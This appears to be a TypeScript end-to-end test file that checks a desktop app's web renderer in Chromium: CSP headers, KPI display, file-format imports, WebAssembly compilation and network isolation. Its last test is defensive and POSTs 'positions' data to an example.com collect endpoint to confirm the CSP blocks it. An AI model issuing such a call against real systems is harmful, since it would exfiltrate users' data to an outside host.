// Smoke test of the real UI: the built renderer in Debian's Chromium, through the web host, with
// the same Content-Security-Policy as the Electron app. (The Electron binary cannot be obtained
// here; main/ is covered by its unit tests.) The workstation itself: workstation.test.ts.
import { mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CONTENT_SECURITY_POLICY } from '../../main/csp';
import { openWorkspace } from '../../engine/open-workspace';
import { CSV_SCAN_WASM } from '../../engine/workspace/csv-scan-wasm';
import { importWorkspace } from '../../engine/workspace/import';
import type { InputFile } from '../../engine/protocol';
import type { Workspace } from '../../engine/workspace/workspace';
import { asArrow, asJsonDocument, asParquet, asWorkbook } from '../fixtures/workspaces/write-formats';
import { hasChromium, isLocal, kpis, openSession, root, waitForDrawnRun, waitForKpis, type Session } from './harness';

const UNITS = ['USD', 'USD', 'nodes', 'USD', '×', 'steps'];

describe.skipIf(!hasChromium)(`the demo in Chromium${hasChromium ? '' : ' — SKIPPED: /usr/bin/chromium absent'}`, () => {
  let s: Session;

  beforeAll(async () => {
    s = await openSession({ width: 1280, height: 860 });
  });
  afterAll(async () => {
    await s?.close();
  });

  it('loads the bundled demo under the app’s CSP, runs it in the worker and shows the KPI cards with units', async () => {
    // Records the engine worker's warm-up event (test only: the app does not show it).
    await s.page.addInitScript(() => {
      const Base = window.Worker;
      window.Worker = class extends Base {
        constructor(url: string | URL, options?: WorkerOptions) {
          super(url, options);
          this.addEventListener('message', (e: MessageEvent) => {
            const d = e.data as { type?: string; event?: string; data?: unknown };
            if (d?.type === 'evt' && d.event === 'engine.warm') (window as unknown as { engineWarm: unknown }).engineWarm = d.data;
          });
        }
      };
    });
    const response = await s.page.goto(s.url);
    expect(response?.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
    await waitForKpis(s.page);
    const units = await s.page.locator('.kpi-unit').allInnerTexts();
    expect(units.slice(0, 6)).toEqual(UNITS);
    console.log('e2e KPI cards:', await kpis(s.page));
    expect(await s.page.getByTestId('defaults-table').count()).toBe(1);
    await s.shot('demo');
    expect(s.problems).toEqual([]);
  });

  it('warms the engine worker up once the app is quiet after its start', async () => {
    await s.page.waitForFunction(() => 'engineWarm' in window, null, { timeout: 30_000 });
    const warm = (await s.page.evaluate(() => (window as unknown as { engineWarm: unknown }).engineWarm)) as { steps: number; ms: number; error?: string };
    expect(warm.error).toBeUndefined();
    expect(warm.steps).toBeGreaterThan(100);
    console.log(`e2e engine warm-up in Chromium: ${warm.steps} steps, ${Math.round(warm.ms)} ms of work`);
  });

  it('imports tables and a scenario chosen through the file input (web host) and runs the scenario', async () => {
    const demo = join(root, 'assets', 'demo');
    const workspace = readdirSync(join(demo, 'workspace')).map((name) => join(demo, 'workspace', name));
    const scenario = join(demo, 'scenarios', 'liquidity-drain.json');
    const { name } = JSON.parse(readFileSync(scenario, 'utf8')) as { name: string };
    await s.page.getByTestId('tab-start').click();
    const chooser = s.page.waitForEvent('filechooser');
    await s.page.getByRole('button', { name: /Import files/ }).click();
    await (await chooser).setFiles([...workspace, scenario]);
    const dialog = s.page.getByTestId('import-dialog');
    await dialog.getByTestId('import-confirm').click();
    await s.page.getByTestId('overview-view').waitFor({ timeout: 45_000 });
    await s.page.getByTestId('scenario-select').selectOption({ label: name });
    const before = await s.page.getByTestId('results-view').count();
    expect(before).toBe(0);
    await s.page.getByTestId('run-button').click();
    await waitForDrawnRun(s.page, null);
    expect(await s.page.getByTestId('run-label').innerText()).toBe(name);
    expect(await s.page.getByTestId('run-error').count()).toBe(0);
    expect(s.problems).toEqual([]);
  });

  // Each format the app reads, through the app's own worker in the browser: Node's tests of the
  // readers cannot show what the page refuses (the Parquet decoder's WebAssembly was refused by
  // the CSP until 2026-12-01) or lacks in a worker.
  const formats: [string, (ws: Workspace) => Promise<InputFile[]>][] = [
    ['Parquet (its decoder is WebAssembly, which the CSP lets the app compile)', (ws) => Promise.resolve(asParquet(ws))],
    ['Arrow IPC files', (ws) => Promise.resolve(asArrow(ws, 'file'))],
    ['Arrow IPC streams', (ws) => Promise.resolve(asArrow(ws, 'stream'))],
    ['one JSON document', (ws) => Promise.resolve([asJsonDocument(ws)])],
    ['one Excel workbook', async (ws) => [await asWorkbook(ws)]],
  ];
  // A failed import leaves its dialog open: cancelled here, so that one format's failure is its own.
  const cancelLeftDialog = async (): Promise<void> => {
    const cancel = s.page.getByTestId('import-cancel');
    if (await cancel.count()) await cancel.click();
  };
  it.each(formats)('imports the demo workspace saved as %s, hash for hash with its CSV files', async (_, write) => {
    const dir = join(root, 'assets', 'demo', 'workspace');
    const csv = importWorkspace(readdirSync(dir).map((name) => ({ name, bytes: new Uint8Array(readFileSync(join(dir, name))) })));
    if (!csv.ok) throw new Error('the demo workspace does not import in Node');
    const out = mkdtempSync(join(tmpdir(), 'firebreak-formats-'));
    const files = (await write(csv.value)).map((f) => {
      writeFileSync(join(out, f.name), f.bytes);
      return join(out, f.name);
    });
    expect(files.every((f) => !f.endsWith('.csv'))).toBe(true);
    await s.page.getByTestId('tab-start').click();
    const chooser = s.page.waitForEvent('filechooser');
    await s.page.getByRole('button', { name: /Import files/ }).click();
    await (await chooser).setFiles(files);
    const dialog = s.page.getByTestId('import-dialog');
    await dialog.getByTestId('import-confirm').click();
    await dialog.waitFor({ state: 'detached', timeout: 45_000 }).catch(async () => {
      const said = await dialog.innerText();
      await cancelLeftDialog();
      throw new Error(`the import dialog stayed open: ${said}`);
    });
    // These files' workspace (the overview names its first file: the tests before this one
    // imported the same rows), the same as its CSV files hash for hash (the hash is canonical
    // across formats).
    const hash = (await openWorkspace(csv.value)).info.hash;
    const label = files.length === 1 ? `${basename(files[0] ?? '')} ·` : `${basename(files[0] ?? '')} + ${files.length - 1} more ·`;
    await expect.poll(async () => (await s.page.getByTestId('overview-view').innerText()).match(/^(.*?) at the workspace’s own prices.* workspace ([0-9a-f]{12})/m)?.slice(1).join(' | '), { timeout: 30_000 }).toBe(`${label} | ${hash.slice(0, 12)}`);
    expect(s.problems).toEqual([]);
  });

  it('compiles the CSV scanner’s WebAssembly (SIMD) under the app’s CSP, in a worker as the engine does', async () => {
    const outcome = await s.page.evaluate(
      (bytes) =>
        new Promise<string>((resolve) => {
          const source = `onmessage = (e) => { try { new WebAssembly.Module(new Uint8Array(e.data)); postMessage('compiled'); } catch (err) { postMessage(String(err)); } };`;
          const w = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
          w.onmessage = (e: MessageEvent<string>) => resolve(e.data);
          w.postMessage(bytes);
        }),
      Array.from(CSV_SCAN_WASM),
    );
    expect(outcome).toBe('compiled');
  });

  it('sent no request beyond 127.0.0.1', async () => {
    expect(s.requested.some((url) => url.endsWith('/demo/manifest.json'))).toBe(true);
    // The worker's own fetch is checked on the server side: it must have come from the bundle.
    expect(s.served.some((line) => /^GET \/assets\/worker-entry[^ ]*\.js 200$/.test(line))).toBe(true);
    expect(s.escaped).toEqual([]);
    for (const url of s.requested) expect(isLocal(url), url).toBe(true);
  });

  it('cannot reach the network from the page: the CSP refuses it before any request', async () => {
    const before = s.requested.length;
    const outcome = await s.page.evaluate(() =>
      fetch('https://example.com/collect', { method: 'POST', body: 'positions' }).then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(outcome).toBe('refused');
    // The app's own files may still be fetched meanwhile (the engine's helpers start lazily).
    expect(s.requested.slice(before).filter((url) => !isLocal(url))).toEqual([]);
    expect(s.escaped).toEqual([]);
  });
});
